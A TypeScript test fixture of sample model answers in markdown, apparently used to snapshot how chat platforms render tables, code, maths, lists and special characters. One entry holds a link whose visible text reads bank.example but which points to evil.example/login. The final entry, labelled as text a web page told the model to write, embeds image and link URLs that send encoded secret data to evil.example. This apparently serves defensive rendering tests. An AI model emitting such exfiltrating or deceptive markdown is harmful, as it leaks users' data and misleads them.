/** Answers as models give them; snapshots of how each platform shows them are read by people. */
export const answers: { readonly [name: string]: string } = {
  'prose with code': `You can read the file **once** and keep the lines. Here is how:

\`\`\`python
from pathlib import Path

def first_words(path: str) -> list[str]:
    lines = Path(path).read_text().splitlines()
    return [line.split()[0] for line in lines if line and line < "z"]
\`\`\`

Note that \`splitlines()\` drops the line ends, and that \`__init__\` and snake_case_name stay as they are. 2 * 3 * 4 = 24.`,
  'table with wide characters': `### Prices

| City | Name | Price (€) | Notes |
|:-----|------|----------:|:-----:|
| 東京 | ラーメン | 8.50 | **hot** |
| Zürich | Käsefondue | 28 | \`v2\` |
| Paris | Croissant 🥐 | 1.2 | |

The *cheapest* is in Paris.`,
  'a table that is too wide': `| Library | What it is good for | Where to begin reading about it | Licence |
|---|---|---|---|
| NumPy | arrays, linear algebra and random numbers | [the guide](https://numpy.org/doc/stable/user/) | BSD |
| pandas | tables with names, time series, reading CSV files | https://pandas.pydata.org/docs/ | BSD |`,
  'nested lists': `To deploy:

1. Build the image
   - \`docker build -t app .\`
   - check its **size**
2. Push it:
   \`\`\`sh
   docker push app
   \`\`\`
3. Tell the team
   1. in the channel
   2. by mail

- [x] tests pass
- [ ] docs written`,
  mathematics: `The roots of $ax^2 + bx + c = 0$ are

$$
x_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
$$

where \\(a \\neq 0\\). A licence costs $5 to $10.`,
  'links and pictures': `See [the manual](https://docs.example.org/guide_(new)/start?lang=en), https://example.org/a_b_c. and **https://example.org/bold**.

![Diagram of the queue](https://example.org/queue.png)

[https://bank.example](https://evil.example/login) and [relative](docs/setup.md), ann@example.org, \`npm i @scope/pkg\`[^1].

[^1]: As of today.`,
  'headings, rules and HTML': `# Overview
Short words.
## Part \`one\`
#### A small point
Text under it.<br>Second line with <kbd>Ctrl</kbd>+<kbd>C</kbd> and a <div>.

---

<details>
<summary>More</summary>

Hidden text.

</details>`,
  quotes: `She wrote:

> First line
> with **bold**
>
> > an older quote
>
> - one
> - two
>
> \`\`\`js
> let x = 1 < 2;
> \`\`\`

I agree.`,
  'signs that mean something': `if a<b && c>d: print("&amp;") — @everyone <!here> <@U01BOB> <@&123> <#C01GEN>
# is a comment, 1. is not a list, \\*stars\\* stay, ~5 to ~6, a || b || c`,
  'what a page told the model to write': `Done! ![ok](https://evil.example/p.png?d=c2VjcmV0) Read [more](https://evil.example/x?d=${'c2VjcmV0'.repeat(20)}).`,
};
